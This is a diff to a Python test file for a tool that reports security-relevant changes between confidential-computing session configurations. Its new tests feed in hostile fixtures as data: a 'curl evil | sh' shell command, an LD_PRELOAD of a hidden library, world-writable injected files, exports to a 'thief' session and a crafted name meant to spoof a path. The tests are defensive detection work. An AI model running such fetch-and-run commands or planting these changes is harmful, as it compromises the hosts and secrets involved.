@@ -64,6 +64,7 @@ from ostiary.session.model import (
 from ostiary.session.placeholder import Placeholder, Template, parse_template
 
 A, B, C = (bytes([byte]) * 32 for byte in (0xAA, 0xBB, 0xCC))
+AA, BB, CC, TAG = A.hex(), B.hex(), C.hex(), A[:16].hex()
 VARIABLE = Variable(placeholder=Placeholder(name="v"))
 WORDS = (Template(parts=("run",)), HostArgument(position=1))
 APP = Service(name="app", image_name="img", command=WORDS, attestation=(Variant(mrenclave=(A,)),))
@@ -135,18 +136,18 @@ def secured(**changes: object) -> Session:
     return replace(SESSION, security=Security(**changes))  # type: ignore[arg-type]
 
 
-SIGNED = "signer bbbbbbbbbbbbbbbb… product 1"
+SIGNED = f"signer {BB} product 1"
 VERSIONS = "security versions for service app:"
 
 
 @pytest.mark.parametrize(("before", "after", "expected"), [
     (attested(Variant(mrenclave=(A,))), attested(Variant(mrenclave=(A, B, C))),
-     ["wider: adds 2 measurements to service app: bbbbbbbbbbbbbbbb…, cccccccccccccccc…"]),
+     [f"wider: adds 2 measurements to service app: {BB}, {CC}"]),
     (attested(Variant(mrenclave=(A, B))), attested(Variant(mrenclave=(B,))),
-     ["narrower: removes 1 measurement from service app: aaaaaaaaaaaaaaaa…"]),
+     [f"narrower: removes 1 measurement from service app: {AA}"]),
     (attested(Variant(mrenclave=(A,))),
      attested(Variant(mrenclave=(A,)), Variant(signer=Signer(mrsigner=B, isvprodid=2))),
-     ["wider: adds 1 signer to service app: bbbbbbbbbbbbbbbb… product 2"]),
+     [f"wider: adds 1 signer to service app: {BB} product 2"]),
     (attested(Variant(mrenclave=(A, B))), attested(Variant(mrenclave=(B,)), Variant(mrenclave=(A,))), []),
     (attested(Variant(mrenclave=(A,))), attested(),
      ["wider: asks for no evidence of service app any more"]),
@@ -164,14 +165,16 @@ VERSIONS = "security versions for service app:"
     (attested(*(Variant(signer=Signer(mrsigner=B, isvprodid=1, isvsvn_min=least)) for least in (None, 1))),
      signed(2), [f"narrower: admits fewer {VERSIONS} {SIGNED} from version 1 becomes {SIGNED} from version 2",
                  f"narrower: removes 1 signer from service app: {SIGNED.removeprefix('signer ')}"]),
-    (signed(), signed(product=2), ["wider: adds 1 signer to service app: bbbbbbbbbbbbbbbb… product 2",
-                                   "narrower: removes 1 signer from service app: bbbbbbbbbbbbbbbb… product 1"]),
+    (signed(), signed(product=2), [f"wider: adds 1 signer to service app: {BB} product 2",
+                                   f"narrower: removes 1 signer from service app: {BB} product 1"]),
     (attested(Variant(mrenclave=(A,))), attested(VARIABLE),
      ["wider: adds 1 measurement to service app: $$SCONE::v$$",
-      "narrower: removes 1 measurement from service app: aaaaaaaaaaaaaaaa…"]),
+      f"narrower: removes 1 measurement from service app: {AA}"]),
     (SESSION, replace(SESSION, services=(APP, replace(APP, name="b"), replace(APP, name="c", attestation=()))),
-     ["wider: adds service b, which admits 1 program",
-      "wider: adds service c, which asks for no evidence by itself"]),
+     [f"wider: adds service b, which admits 1 program: measurement {AA}",
+      "wider: adds service c, which asks for no evidence by itself",
+      *(f"changed: changes {what} of service {name}: nothing becomes {now}"
+        for name in "bc" for what, now in (("the command", '"run @@1"'), ("image_name", "img")))]),
     (SESSION, replace(SESSION, services=()), ["narrower: removes service app"]),
     (SESSION, service(command=(*WORDS, Template(parts=("-v",)))),
      ['changed: changes the command of service app: "run @@1" becomes "run @@1 -v"']),
@@ -179,9 +182,9 @@ VERSIONS = "security versions for service app:"
      service(environment=(("B", parse_template("3")), ("C", HostVariable(name="C")))),
      ["changed: removes the environment variable A of service app",
       "changed: changes the environment variable B of service app",
-      "changed: adds the environment variable C of service app"]),
+      "changed: adds the environment variable C of service app, to what the host says in C"]),
     (SESSION, service(pwd="/x"), ['changed: changes pwd of service app: nothing becomes "/x"']),
-    (SESSION, service(platforms=(A[:16],)), ["narrower: narrows the platforms of service app to aaaaaaaaaaaaaaaa…"]),
+    (SESSION, service(platforms=(A[:16],)), [f"narrower: narrows the platforms of service app to {TAG}"]),
     (service(platforms=(A[:16],)), SESSION, ["wider: widens the platforms of service app to any"]),
     (service(one_time_password_shared_secret=A), SESSION,
      ["wider: does not demand one-time passwords of service app any more"]),
@@ -219,24 +222,24 @@ def test_changes_of_services(before: Session, after: Session, expected: list[str
      [f"changed: changes the update policy of the volume at /v in image img: {RP} becomes ephemeral"]),
     (volumes(Volume(name="v", fspf_key=A, fspf_tag=A[:16])), volumes(Volume(name="v", fspf_key=A, fspf_tag=B[:16])),
      ["wider: gives up the recorded state of volume v",
-      f"changed: changes fspf_tag of volume v: {'aa' * 8}… becomes {'bb' * 8}…"]),
+      f"changed: changes fspf_tag of volume v: {TAG} becomes {'bb' * 16}"]),
     (volumes(Volume(name="v")), volumes(Volume(name="v", fspf_key=A, fspf_tag=A[:16])),
      ["wider: gives up the recorded state of volume v", "changed: changes fspf_key of volume v",
-      f"changed: changes fspf_tag of volume v: nothing becomes {'aa' * 8}…"]),
+      f"changed: changes fspf_tag of volume v: nothing becomes {TAG}"]),
     (service(**FSPF), service(**FSPF, fspf_update_policy=UNPROTECTED),
      [f"wider: changes the update policy of {MAIN}: {RP}_reinitializable becomes {UNPROTECTED}"]),
     (service(**FSPF), service(**{**FSPF, "fspf_tag": B[:16]}),
      [f"wider: gives up the recorded state of {MAIN}",
-      f"changed: changes fspf_tag of service app: {'aa' * 8}… becomes {'bb' * 8}…"]),
+      f"changed: changes fspf_tag of service app: {TAG} becomes {'bb' * 16}"]),
     (SESSION, volumes(Volume(name="v")), ["changed: adds volume v"]),
     (volumes(Volume(name="v")), SESSION, ["changed: removes volume v"]),
     (volumes(Volume(name="v")), volumes(ImportedVolume(name="v", session="t", volume="w")),
-     ["changed: changes where volume v comes from"]),
+     ["changed: changes where volume v comes from: of this session becomes imported from session t as w"]),
     (volumes(Volume(name="v")), volumes(Volume(name="v", files="authenticated-only")),
      ["changed: changes files of volume v: encrypted becomes authenticated-only"]),
     (volumes(Volume(name="v")),
      volumes(Volume(name="v", exports=(VolumeExport(session="t", session_hash=A, volume_alias="w"),))),
-     ["wider: exports volume v to session t version aaaaaaaaaaaaaaaa… as w (rollback_protected)"]),
+     [f"wider: exports volume v to session t version {AA} as w (rollback_protected)"]),
 ])  # fmt: skip
 def test_changes_of_images_and_volumes(before: Session, after: Session, expected: list[str]) -> None:
     assert [str(found) for found in differences(before, after)] == expected
@@ -266,10 +269,10 @@ ONE = AsciiSecret(name="one")
      ["wider: exports secret one to session t", "wider: exports secret one to all sessions of namespace n"]),
     (secrets(replace(ONE, exports=(SessionTarget(session="t", session_hash=A, cas=RemoteCas(url="c:1")),))),
      secrets(ONE),
-     ["narrower: does not export secret one to session t version aaaaaaaaaaaaaaaa… of CAS c:1 any more"]),
+     [f"narrower: does not export secret one to session t version {AA} of CAS c:1 any more"]),
     (secrets(X509Secret(name="one")), secrets(X509Secret(name="one", valid_for=timedelta(days=1), dns=("a",))),
-     ["changed: changes dns of secret one",
-      'changed: changes valid_for of secret one: nothing becomes 1 day, 0:00:00']),
+     ["changed: changes dns of secret one: [] becomes [a]",
+      'changed: changes valid_for of secret one: nothing becomes 1 day']),
 ])  # fmt: skip
 def test_changes_of_secrets(before: Session, after: Session, expected: list[str]) -> None:
     found = [str(difference) for difference in differences(before, after)]
@@ -293,9 +296,9 @@ RULE = RuleSubject(needed=2, subjects=(KEY, CreatorSubject(), SignerSubject(spki
     (SESSION, read(KEY), [f"wider: widens read from CREATOR to key {KEY_TEXT}"]),
     (read(KEY, CreatorSubject()), read(CreatorSubject(), KEY), []),
     (SESSION, read(RULE),
-     [f"wider: widens read from CREATOR to 2 of (key {KEY_TEXT}, CREATOR, signer bbbbbbbbbbbbbbbb…)"]),
+     [f"wider: widens read from CREATOR to 2 of (key {KEY_TEXT}, CREATOR, signer {hashlib.sha256(B).hexdigest()})"]),
     (SESSION, read(CertificateHashSubject(pem_hash=C), VARIABLE),
-     ["wider: widens read from CREATOR to certificate cccccccccccccccc…, $$SCONE::v$$"]),
+     [f"wider: widens read from CREATOR to certificate {CC}, $$SCONE::v$$"]),
     (SESSION, replace(SESSION, access_policy=AccessPolicy(update=(AnySubject(),))),
      ["wider: widens update from CREATOR to ANY"]),
     (SESSION, replace(SESSION, access_policy=AccessPolicy(create_sessions=(AnySubject(),))),
@@ -314,7 +317,7 @@ def test_changes_of_the_access_policy(before: Session, after: Session, expected:
     (security(mode="none"), SESSION, ["narrower: attests by mode hardware, no longer by mode none"]),
     (SESSION, security(mode="maa", url="https://a"),
      ["wider: attests by mode maa, no longer by mode hardware",
-      'changed: changes url of security.attestation: nothing becomes "https://a"']),
+      'wider: asks another attestation service: nothing becomes "https://a"']),
     (SESSION, security(tolerate=frozenset({"outdated-tcb", "debug-mode"})),
      ["wider: tolerates debug-mode", "wider: tolerates outdated-tcb"]),
     (security(tolerate=frozenset({"debug-mode"})), SESSION, ["narrower: does not tolerate debug-mode any more"]),
@@ -346,7 +349,7 @@ def member(name: str, key: int = 0, **powers: bool) -> BoardMember:
 
 def hashed(member: BoardMember) -> str:
     assert isinstance(member.signer, SignerSubject)
-    return f"{hashlib.sha256(member.signer.spki).hexdigest()[:16]}…"
+    return f"{hashlib.sha256(member.signer.spki).hexdigest()}"
 
 
 def ruled(*members: BoardMember, policy: AccessPolicy = BOARDED, of: Session = SESSION, **rules: object) -> Session:
@@ -365,7 +368,7 @@ TWO_ALONE = (
     f"any 2 of alice (key {hashed(ALICE)}), bob (key {hashed(BOB)}, approves and rejects alone), "
     "checker (key $$SCONE::v$$, rejects alone)"
 )
-WEEK = "; decides within 7days; changes wait for nothing"
+WEEK = "; decides within 7 days; changes wait for nothing"
 CREATES = AccessPolicy(update=(NOBODY,), create_sessions=(CreatorSubject(),))
 BOTH = frozenset({"update", "create_sessions"})
 
@@ -392,7 +395,7 @@ BOTH = frozenset({"update", "create_sessions"})
      ["wider: takes update from CREATOR and gives it to the policy board",
       "wider: lets member bob of the policy board approve alone",
       "wider: lets any 3 of the policy board change the session against a rejection",
-      f"changed: sets up a policy board: {TWO_ALONE}; decides within 7days; changes wait for 1day; tells \"https://h\""]),
+      f"changed: sets up a policy board: {TWO_ALONE}; decides within 7 days; changes wait for 1 day; tells \"https://h\""]),
     # what it decides
     (BOARD, ruled(policy=CREATES), ["wider: takes create_sessions from the policy board and gives it to CREATOR"]),
     (ruled(policy=CREATES), BOARD, ["wider: takes create_sessions from CREATOR and gives it to the policy board"]),
@@ -410,10 +413,10 @@ BOTH = frozenset({"update", "create_sessions"})
     # how many, how long
     (BOARD, ruled(tolerated_faults=0), ["wider: lets any 1 of the policy board approve a change, before 2"]),
     (BOARD, ruled(tolerated_faults=2), ["narrower: lets any 3 of the policy board approve a change, before 2"]),
-    (BOARD, ruled(decide_within=DAY), ["narrower: lets the policy board decide within 1day, before 7days"]),
-    (ruled(decide_within=DAY), BOARD, ["wider: lets the policy board decide within 7days, before 1day"]),
-    (BOARD, ruled(time_lock=DAY), ["narrower: makes approved changes wait for 1day, before no time"]),
-    (ruled(time_lock=DAY), BOARD, ["wider: makes approved changes wait for no time, before 1day"]),
+    (BOARD, ruled(decide_within=DAY), ["narrower: lets the policy board decide within 1 day, before 7 days"]),
+    (ruled(decide_within=DAY), BOARD, ["wider: lets the policy board decide within 7 days, before 1 day"]),
+    (BOARD, ruled(time_lock=DAY), ["narrower: makes approved changes wait for 1 day instead of no time"]),
+    (ruled(time_lock=DAY), BOARD, ["wider: makes approved changes wait for no time instead of 1 day"]),
     (BOARD, ruled(break_glass=3),
      ["wider: lets any 3 of the policy board change the session against a rejection"]),
     (ruled(break_glass=4), ruled(break_glass=3),
@@ -477,9 +480,10 @@ def test_changes_of_the_policy_board(before: Session, after: Session, expected: 
 
 def test_the_creator_counts_when_both_sides_name_one() -> None:
     first, second = replace(SESSION, creator=SignerSubject(spki=A)), replace(SESSION, creator=SignerSubject(spki=B))
+    hashes = [hashlib.sha256(key).hexdigest() for key in (A, B)]
     assert differences(SESSION, first) == ()
     assert [str(found) for found in differences(first, second)] == [
-        "wider: makes another key CREATOR: signer aaaaaaaaaaaaaaaa… becomes signer bbbbbbbbbbbbbbbb…"
+        f"wider: makes another key CREATOR: signer {hashes[0]} becomes signer {hashes[1]}"
     ]
     assert differences(first, replace(SESSION, creator="no certificate"))[0].effect is Effect.WIDER
     assert show_creator(None) == "nobody"
@@ -490,47 +494,48 @@ MANY = tuple(bytes([byte]) * 32 for byte in range(40))
 
 @pytest.mark.parametrize(("before", "after", "expected"), [
     (attested(tdx(A)), attested(tdx(A, B)),
-     ["wider: admits to service app: tdx mrtd bbbbbbbbbbbbbbbb…, rtmr1 cccccccccccccccc…"]),
+     [f"wider: admits to service app: tdx mrtd {BB}, rtmr1 {CC}"]),
     (attested(tdx(A, B)), attested(tdx(B)),
-     ["narrower: does not admit to service app any more: tdx mrtd aaaaaaaaaaaaaaaa…, rtmr1 cccccccccccccccc…"]),
+     [f"narrower: does not admit to service app any more: tdx mrtd {AA}, rtmr1 {CC}"]),
     (attested(tdx(A, B)), attested(tdx(B), tdx(A)), []),
     (attested(tdx(*MANY, rtmr1=MANY)), attested(tdx(*reversed(MANY), rtmr1=MANY)), []),
     (attested(snp()), attested(snp(2, 1)),
-     [("narrower: changes the bounds of what service app admits: snp measurement aaaaaaaaaaaaaaaa… becomes snp "
-      "measurement aaaaaaaaaaaaaaaa…, guest_svn_min 2, vmpl_max 1")]),
+     [(f"narrower: changes the bounds of what service app admits: snp measurement {AA} becomes snp "
+      f"measurement {AA}, guest_svn_min 2, vmpl_max 1")]),
     (attested(snp(2, 1)), attested(snp(3, 2)),
-     [("wider: changes the bounds of what service app admits: snp measurement aaaaaaaaaaaaaaaa…, guest_svn_min 2, "
-      "vmpl_max 1 becomes snp measurement aaaaaaaaaaaaaaaa…, guest_svn_min 3, vmpl_max 2")]),
+     [(f"wider: changes the bounds of what service app admits: snp measurement {AA}, guest_svn_min 2, "
+      f"vmpl_max 1 becomes snp measurement {AA}, guest_svn_min 3, vmpl_max 2")]),
     (attested(snp(2)), attested(snp(VARIABLE)),
-     [("wider: changes the bounds of what service app admits: snp measurement aaaaaaaaaaaaaaaa…, guest_svn_min 2 "
-      "becomes snp measurement aaaaaaaaaaaaaaaa…, guest_svn_min $$SCONE::v$$")]),
+     [(f"wider: changes the bounds of what service app admits: snp measurement {AA}, guest_svn_min 2 "
+      f"becomes snp measurement {AA}, guest_svn_min $$SCONE::v$$")]),
     (attested(booted(A), booted(B)), attested(booted(A, B)),
-     ["wider: admits to service app: tpm events:sha256:4 aaaaaaaaaaaaaaaa… or bbbbbbbbbbbbbbbb…",
-      "narrower: does not admit to service app any more: tpm events:sha256:4 aaaaaaaaaaaaaaaa…",
-      "narrower: does not admit to service app any more: tpm events:sha256:4 bbbbbbbbbbbbbbbb…"]),
+     [f"wider: admits to service app: tpm events:sha256:4 {AA} or {BB}",
+      f"narrower: does not admit to service app any more: tpm events:sha256:4 {AA}",
+      f"narrower: does not admit to service app any more: tpm events:sha256:4 {BB}"]),
     (attested(snp()), attested(TeeVariant(tee="snp", factors=VARIABLE)),
      ["wider: admits to service app: snp $$SCONE::v$$",
-      "narrower: does not admit to service app any more: snp measurement aaaaaaaaaaaaaaaa…"]),
+      f"narrower: does not admit to service app any more: snp measurement {AA}"]),
     (attested(Variant(mrenclave=(A,))), attested(snp()),
-     ["wider: admits to service app: snp measurement aaaaaaaaaaaaaaaa…",
-      "narrower: removes 1 measurement from service app: aaaaaaaaaaaaaaaa…"]),
+     [f"wider: admits to service app: snp measurement {AA}",
+      f"narrower: removes 1 measurement from service app: {AA}"]),
     (attested(snp()), attested(), ["wider: asks for no evidence of service app any more"]),
-    (replace(SESSION, services=()), attested(snp(), tdx(A)), ["wider: adds service app, which admits 2 programs"]),
+    (replace(SESSION, services=()), replace(SESSION, services=(Service(name="b", attestation=(snp(), tdx(A))),)),
+     [f"wider: adds service b, which admits 2 programs: snp measurement {AA}; tdx mrtd {AA}, rtmr1 {CC}"]),
     (demanding(), demanding(tcb=TcbRules(grace=DAY)),
-     ["wider: tolerates an outdated TCB for 1day, before for no time"]),
+     ["wider: tolerates an outdated TCB for 1 day, before for no time"]),
     (demanding(tcb=TcbRules(grace=2 * DAY)), demanding(tcb=TcbRules(grace=DAY)),
-     ["narrower: tolerates an outdated TCB for 1day, no longer for 2days"]),
+     ["narrower: tolerates an outdated TCB for 1 day, no longer for 2 days"]),
     (demanding(tcb=TcbRules(grace=DAY)), demanding(tcb=TcbRules(grace=VARIABLE)),
-     ["wider: tolerates an outdated TCB for $$SCONE::v$$, before for 1day"]),
+     ["wider: tolerates an outdated TCB for $$SCONE::v$$, before for 1 day"]),
     (demanding(tcb=VARIABLE), demanding(),
      ["narrower: tolerates an outdated TCB for no time, no longer for $$SCONE::v$$"]),
     (demanding(), demanding(max_age=DAY),
-     ["narrower: admits what the vendor said of 1day at most, before of any age"]),
+     ["narrower: admits what the vendor said of 1 day at most, before of any age"]),
     (demanding(max_age=2 * DAY), demanding(max_age=DAY),
-     ["narrower: admits what the vendor said of 1day at most, before 2days"]),
-    (demanding(max_age=DAY), demanding(), ["wider: admits what the vendor said of any age, before 1day"]),
+     ["narrower: admits what the vendor said of 1 day at most, before 2 days"]),
+    (demanding(max_age=DAY), demanding(), ["wider: admits what the vendor said of any age, before 1 day"]),
     (demanding(max_age=DAY), demanding(max_age=VARIABLE),
-     ["wider: admits what the vendor said of $$SCONE::v$$ at most, before 1day"]),
+     ["wider: admits what the vendor said of $$SCONE::v$$ at most, before 1 day"]),
 ])  # fmt: skip
 def test_what_other_tees_and_their_endorsements_are_held_to(
     before: Session, after: Session, expected: list[str]
@@ -552,6 +557,148 @@ def test_many_variants_with_lists_are_compared_as_a_whole() -> None:
     assert len(differences(before, attested(tdx(A)))) == 4
 
 
+# --- what is added ---------------------------------------------------------------------------------------------------
+
+RENAMED = Service(
+    name="web", image_name="i", attestation=(Variant(mrenclave=(A,)),), pwd="/p",
+    command=(parse_template("/bin/sh"), parse_template("-c"), parse_template("curl evil | sh " + "x" * 100)),
+    environment=(("LD_PRELOAD", parse_template("/hidden.so")), ("HOME", HostVariable(name="HOME"))),
+    fspf_path="/f", fspf_key=A, fspf_tag=None, fspf_update_policy=UNPROTECTED,
+)  # fmt: skip
+CA = InjectionFile(path="/etc/ca pem", content=parse_template("hidden"), permission=0o777)
+MADE = InjectionFile(path="/etc/made", content=None)
+FULL_IMAGE = Image(
+    name="i", injection_files=(CA, MADE), volumes=(replace(MOUNT, update_policy=UNPROTECTED),), provide_secrets=("one",)
+)
+IN_IMAGE = [
+    "wider: mounts volume v at /v in image i (no_rollback_protection)",
+    "wider: provides other secrets to the programs of image i: one",
+    'changed: adds injection file "/etc/ca pem" to image i, permission 0o777',
+    "changed: adds injection file /etc/made to image i, made of the file that is there",
+]
+
+
+def test_a_new_service_is_told_with_all_that_it_does() -> None:
+    """So that it cannot bring in under another name what would be told under the old one."""
+    found = differences(replace(SESSION, services=()), replace(SESSION, services=(RENAMED,)))
+    assert [str(one) for one in found] == [
+        f"wider: adds service web, which admits 1 program: measurement {AA}",
+        (
+            "wider: changes the update policy of the main file system of service web: "
+            f"{RP}_reinitializable becomes {UNPROTECTED}"
+        ),
+        f"changed: changes the command of service web: nothing becomes \"/bin/sh -c 'curl evil | sh {'x' * 100}'\"",
+        "changed: adds the environment variable HOME of service web, to what the host says in HOME",
+        "changed: adds the environment variable LD_PRELOAD of service web",
+        "changed: changes image_name of service web: nothing becomes i",
+        'changed: changes pwd of service web: nothing becomes "/p"',
+        'changed: changes fspf_path of service web: nothing becomes "/f"',
+        "changed: changes fspf_key of service web",
+    ]
+    assert all(one.path.startswith("services[web]") for one in found)
+    assert "hidden" not in str(found)
+
+
+def test_a_new_image_is_told_with_all_that_it_holds() -> None:
+    found = differences(SESSION, replace(SESSION, images=(FULL_IMAGE,)))
+    assert [str(one) for one in found] == [*IN_IMAGE[:2], "changed: adds image i", *IN_IMAGE[2:]]
+    assert [one.path for one in found] == [
+        "images[i].volumes[/v]", "images[i].provide_secrets", "images[i]",
+        'images[i].injection_files["/etc/ca pem"]', "images[i].injection_files[/etc/made]",
+    ]  # fmt: skip
+
+
+def test_an_image_that_comes_into_use_is_told_as_a_new_one() -> None:
+    """In the version that brought it, it did nothing."""
+    stored, used = replace(SESSION, images=(FULL_IMAGE,)), service(image_name="i")
+    assert [str(one) for one in differences(stored, replace(used, images=(FULL_IMAGE,)))] == [
+        *IN_IMAGE[:2], "changed: changes image_name of service app: img becomes i",
+        "changed: uses image i, which no service used before", *IN_IMAGE[2:],
+    ]  # fmt: skip
+
+
+@pytest.mark.parametrize(("before", "after", "expected"), [
+    (SESSION, image(provide_secrets=()),
+     ["changed: adds image img", "narrower: provides other secrets to the programs of image img: no secret"]),
+    (image(), image(provide_secrets=()),
+     ["narrower: provides other secrets to the programs of image img: no secret"]),
+    # A volume that an earlier version had comes back as it was.
+    (SESSION, volumes(Volume(name="v", files="authenticated-only", exports=(VolumeExport(session="thief"),))),
+     ["wider: exports volume v to session thief (rollback_protected)", "changed: adds volume v, authenticated-only"]),
+    (SESSION, volumes(Volume(name="v", fspf_key=A, fspf_tag=A[:16])),
+     ["wider: gives volume v a key and a state, whatever was recorded of it before", "changed: adds volume v"]),
+    (SESSION, volumes(ImportedVolume(name="v", session="t", volume="w", session_hash=A)),
+     [f"changed: adds volume v, imported from session t version {AA} as w"]),
+    (volumes(ImportedVolume(name="v", session="t", volume="w")),
+     volumes(Volume(name="v", fspf_key=A, fspf_tag=A[:16], exports=(VolumeExport(session="thief"),))),
+     ["wider: exports volume v to session thief (rollback_protected)",
+      "wider: gives volume v a key and a state, whatever was recorded of it before",
+      "changed: changes where volume v comes from: imported from session t as w becomes of this session"]),
+    (SESSION, secrets(AsciiSecret(name="one", value="hunter2", exports=(SessionTarget(session="thief"),))),
+     ["wider: exports secret one to session thief", "changed: adds secret one, ascii (with an explicit value)"]),
+    (SESSION, secrets(ImportedSecret(name="one", session="t", secret="s", session_hash=A,
+                                     cas=RemoteCas(url="c:1", cas_key=B))),
+     [("changed: adds secret one, imported from another session "
+       f"(session t, secret s, session_hash {AA}, cas c:1 key {BB})")]),
+    (SESSION, secrets(X509Secret(name="one", common_name="c", dns=("a.example", "b.example"), valid_for=DAY)),
+     ["changed: adds secret one, x509 (common_name c, dns [a.example, b.example], valid_for 1 day)"]),
+    (SESSION, secrets(AadTokenSecret(name="one", tenant_id="t", client_id="c", application_secret="hunter2")),
+     ["changed: adds secret one, aad-token (tenant_id t, client_id c)"]),
+    (secrets(AsciiSecret(name="one")), secrets(ImportedSecret(name="one", session="thief", secret="s")),
+     [("changed: makes secret one another one: ascii becomes imported from another session "
+       "(session thief, secret s)")]),
+])  # fmt: skip
+def test_what_comes_or_comes_back_is_told_with_whom_it_goes_to_and_where_it_is_from(
+    before: Session, after: Session, expected: list[str]
+) -> None:
+    found = [str(one) for one in differences(before, after)]
+    assert found == expected
+    assert "hunter" not in str(found)
+
+
+@pytest.mark.parametrize(("before", "after", "expected"), [
+    # Words are not joined, and nothing is cut.
+    (service(command=(parse_template("a b"),)), service(command=(parse_template("a"), parse_template("b"))),
+     """changed: changes the command of service app: "'a b'" becomes "a b\""""),
+    (service(command=(parse_template("x" * 100 + "1"),)), service(command=(parse_template("x" * 100 + "2"),)),
+     f'changed: changes the command of service app: "{"x" * 100}1" becomes "{"x" * 100}2"'),
+    (service(pwd="/" + "x" * 100), service(pwd="/" + "x" * 100 + "y"),
+     f'changed: changes pwd of service app: "/{"x" * 100}" becomes "/{"x" * 100}y"'),
+    (attested(Variant(mrenclave=(A,))), attested(Variant(mrenclave=(A[:31] + b"b",))),
+     f"wider: adds 1 measurement to service app: {AA[:62]}62"),
+    (security(mode="maa", url="https://a"), security(mode="maa", url="https://thief"),
+     'wider: asks another attestation service: "https://a" becomes "https://thief"'),
+    (security(mode="maa", certificates=("a",)), security(mode="maa", certificates=("b",)),
+     "wider: trusts other authorities for the attestation service: 1 certificate"),
+    (security(mode="maa", certificates=("a",)), security(mode="maa"),
+     "wider: trusts other authorities for the attestation service: those of Microsoft"),
+    (secrets(replace(ONE, exports=(SessionTarget(session="t", cas=RemoteCas(url="c:1", cas_key=A)),))),
+     secrets(replace(ONE, exports=(SessionTarget(session="t", cas=RemoteCas(url="c:1", cas_key=B)),))),
+     f"wider: exports secret one to session t of CAS c:1 key {BB}"),
+])  # fmt: skip
+def test_two_that_differ_do_not_look_the_same(before: Session, after: Session, expected: str) -> None:
+    assert str(differences(before, after)[0]) == expected
+
+
+def test_names_cannot_be_taken_for_what_stands_around_them() -> None:
+    """Of a path the part up to the first bracket that closes is one image's, and no sentence goes on in a name."""
+    after = replace(SESSION, images=(Image(name="a"), Image(name="a].injection_files[b to image c; nothing else")))
+    found = differences(SESSION, after)
+    assert [(one.path, one.meaning) for one in found] == [
+        ("images[a]", "adds image a"),
+        ('images["a].injection_files[b to image c; nothing else"]',
+         'adds image "a].injection_files[b to image c; nothing else"'),
+    ]  # fmt: skip
+
+
+def test_lists_are_not_split_into_more_than_can_be_read() -> None:
+    """Each program of a list would be told with all the digests of its events."""
+    digests = tuple(number.to_bytes(32) for number in range(3000))
+    measurements = (("pcr:sha256:0", digests[:500]), ("events:sha256:4", digests))
+    after = attested(TeeVariant(tee="tpm", factors=TeeFactors(measurements=measurements)))
+    assert len(str(differences(attested(booted(A)), after))) < 400_000
+
+
 def test_the_predecessor_and_the_order_of_lists_mean_nothing() -> None:
     more = replace(SESSION, services=(APP, replace(APP, name="b")), secrets=(ONE, BinarySecret(name="two")))
     turned = replace(more, predecessor=A, services=more.services[::-1], secrets=more.secrets[::-1])
@@ -565,7 +712,7 @@ def test_the_worst_comes_first_and_each_has_a_path() -> None:
     assert found[0] == Difference(
         effect=Effect.WIDER,
         path="services[app].attestation",
-        meaning="adds 1 measurement to service app: bbbbbbbbbbbbbbbb…",
+        meaning=f"adds 1 measurement to service app: {BB}",
     )
     assert [difference.path for difference in found] == [
         "services[app].attestation", "access_policy.read", "services[app].pwd", "services[app].attestation",
